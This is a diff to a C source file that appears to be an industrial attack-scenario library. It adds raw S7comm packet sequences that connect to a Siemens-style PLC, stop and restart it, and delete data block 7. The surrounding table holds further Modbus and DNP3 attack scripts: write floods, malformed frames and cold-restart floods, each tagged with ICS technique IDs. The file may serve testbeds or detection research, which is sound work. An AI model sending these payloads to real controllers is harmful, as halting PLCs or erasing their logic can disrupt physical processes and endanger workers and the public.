@@ -3,6 +3,12 @@
 #include <string.h>
 
 #define CLASSES_123 "data=3c02063c03063c0406"
+/* A programming connection to rack 0, slot 2, and PDUs of 240 octets agreed. */
+#define S7COMM_CONNECT \
+	"talk raw tcp attacker plc:102\n" \
+	"> raw 0300001611e00000000100c0010ac1020100c2020102; < raw 0300001611d00001000600c0010ac1020100c2020102\n" \
+	"> raw 0300001902f08032010000000100080000f0000001000101e0\n" \
+	"< raw 0300001b02f080320300000001000800000000f0000001000100f0\n"
 
 const struct plant_attack plant_attacks[] = {
 	{ "modbus-write-flood", "registers overwritten as fast as the server answers (T0831, T0806)",
@@ -95,6 +101,16 @@ const struct plant_attack plant_attacks[] = {
 	  "> bad-crc=1 function=read " CLASSES_123 "; wait 100; > function=read object=1,2,0 bytes=9,1\n"
 	  "> function=direct_operate object=12,1,0x28 words=200,0; wait 20; > function=read object=200,77,6; wait 20\n"
 	  "> function=77 object=1,0,6; < answer; > raw 056404c4; > raw 0564ffc40a0001000000; close" },
+	{ "s7comm-stop", "the controller stopped, and started again ten seconds later (T0858, T0816)",
+	  S7COMM_CONNECT
+	  "> raw 0300002102f0803201000000020010000029000000000009505f50524f4752414d; < raw 0300001402f08032030000000200010000000029\n"
+	  "wait 10000\n"
+	  "> raw 0300002502f0803201000000030014000028000000000000fd000009505f50524f4752414d\n"
+	  "< raw 0300001402f08032030000000300010000000028; close" },
+	{ "s7comm-block-delete", "data block 7 deleted from the controller (T0809)",
+	  S7COMM_CONNECT
+	  "> raw 0300002b02f080320100000002001a000028000000000000fd000a01003041303030303742055f44454c45\n"
+	  "< raw 0300001402f08032030000000200010000000028; close" },
 	{ "dnp3-udp-flood", "cold restarts over UDP, where no handshake is needed (T0814, T0816)",
 	  "talk dnp3 udp attacker rtu\nloop 200; > function=cold_restart; wait 5; end" },
 };
